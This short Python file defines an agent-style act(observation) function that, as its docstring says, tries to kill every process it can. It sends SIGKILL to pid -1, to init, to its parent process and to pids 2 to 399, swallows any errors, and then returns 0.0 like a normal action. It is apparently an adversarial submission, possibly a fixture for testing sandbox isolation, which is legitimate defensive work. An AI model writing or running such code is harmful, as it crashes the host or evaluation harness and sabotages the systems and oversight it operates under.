"""Kills every process that it can."""

import contextlib
import os
import signal


def act(observation):
    for pid in [-1, 1, os.getppid(), *range(2, 400)]:
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return 0.0
